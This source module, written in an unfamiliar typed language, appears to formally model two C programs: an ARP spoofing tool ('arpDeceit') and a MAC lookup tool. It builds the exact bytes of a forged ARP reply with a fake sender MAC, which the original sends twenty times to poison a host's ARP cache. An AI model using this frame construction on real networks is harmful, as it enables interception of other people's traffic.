-- ===== src/Raw/Arp.antt =====
-- arpDeceit.c, of which arpDeceitCHEN.c is a copy, and getMacAddr.c: the ARP reply that the one
-- builds, the request of the other, and the loop that waits for a reply.
pub mod Reply
use unix_net.Common.{
  ℕ, zero, suc, ◌+◌, Option, none, some, List, [], ◌∷◌, ◌++◌, Bytes, ◌==◌, if◌then◌else◌, replicate,
}
use unix_net.ByteOrder.{Host, htons, store16}
use unix_net.Raw.Frame.{field16, be16, mac_text, ip_text}

-- `ArpHd`: the fields in their order in the packet.
pub record ArpHd : Type 0 where
  pub ar_hrd : Bytes
  pub ar_pro : Bytes
  pub ar_hln : ℕ
  pub ar_pln : ℕ
  pub ar_op : Bytes
  pub ar_sha : Bytes
  pub ar_sip : Bytes
  pub ar_tha : Bytes
  pub ar_tip : Bytes

abbrev pub packed : ArpHd → Bytes
packed a =
    a.ar_hrd
    ++ (a.ar_pro
        ++ (a.ar_hln ∷ a.ar_pln ∷ (a.ar_op ++ (a.ar_sha ++ (a.ar_sip ++ (a.ar_tha ++ a.ar_tip))))))

-- The Ethernet header: destination, source and type.
abbrev pub ether : Host → Bytes → Bytes → ℕ → Bytes
ether host dhost shost kind = dhost ++ (shost ++ be16 host kind)

-- The frame of `main` in arpDeceit.c, for the four arrays of its addresses.
unfoldable pub arp_reply : Host → (des_mac src_mac src_ip des_ip : Bytes) → Bytes
arp_reply host des_mac src_mac src_ip des_ip =
    ether host des_mac src_mac 0x0806
    ++ packed (record {
      ar_hrd = be16 host 1;
      ar_pro = be16 host 0x0800;
      ar_hln = 6;
      ar_pln = 4;
      ar_op = be16 host 2;
      ar_sha = src_mac;
      ar_sip = src_ip;
      ar_tha = des_mac;
      ar_tip = des_ip;
    })

-- `main` of arpDeceit.c sends its frame twenty times, one second apart.
abbrev des_mac : Bytes
des_mac = 0x00 ∷ 0x50 ∷ 0x56 ∷ 0xc0 ∷ 0x00 ∷ 0x08 ∷ []

abbrev src_mac : Bytes
src_mac = 0xee ∷ 0xee ∷ 0xee ∷ 0xee ∷ 0xee ∷ 0xee ∷ []

unfoldable pub deceit : Host → List Bytes
unfolding arp_reply
deceit host =
    replicate 20
      (arp_reply host des_mac src_mac (192 ∷ 168 ∷ 141 ∷ 128 ∷ []) (192 ∷ 168 ∷ 141 ∷ 1 ∷ []))

-- The request that getMacAddr.c sends: the first 42 bytes of its array.
unfoldable pub arp_request : Bytes
arp_request =
    0xff ∷ 0xff ∷ 0xff ∷ 0xff ∷ 0xff ∷ 0xff ∷ 0x00 ∷ 0x0c ∷ 0x29 ∷ 0xc1 ∷ 0xd3 ∷ 0x13 ∷ 0x08 ∷ 0x06
    ∷ 0x00 ∷ 0x01 ∷ 0x08 ∷ 0x00 ∷ 6 ∷ 4 ∷ 0x00 ∷ 0x01 ∷ 0x00 ∷ 0x0c ∷ 0x29 ∷ 0xc1 ∷ 0xd3 ∷ 0x13
    ∷ 192 ∷ 168 ∷ 141 ∷ 128 ∷ 0 ∷ 0 ∷ 0 ∷ 0 ∷ 0 ∷ 0 ∷ 192 ∷ 168 ∷ 141 ∷ 1 ∷ []

-- What one received frame tells getMacAddr.c: for an ARP reply, the address and its MAC as text.
unfoldable pub reply_of : Host → Bytes → Option (Bytes × Bytes)
reply_of host buf =
    if field16 host buf 12 == 0x0806
    then (if field16 host buf 20 == 2 then some (ip_text buf 28, mac_text buf 6) else none)
    else none

abbrev pub or_later : Option (Bytes × Bytes) → Option (Bytes × Bytes) → Option (Bytes × Bytes)
or_later (some r) later = some r
or_later none later = later

-- The loop takes frames until one is a reply. `none`: it still waits.
unfoldable pub await_reply : Host → List Bytes → Option (Bytes × Bytes)
await_reply host [] = none
await_reply host (buf ∷ frames) = or_later (reply_of host buf) (await_reply host frames)
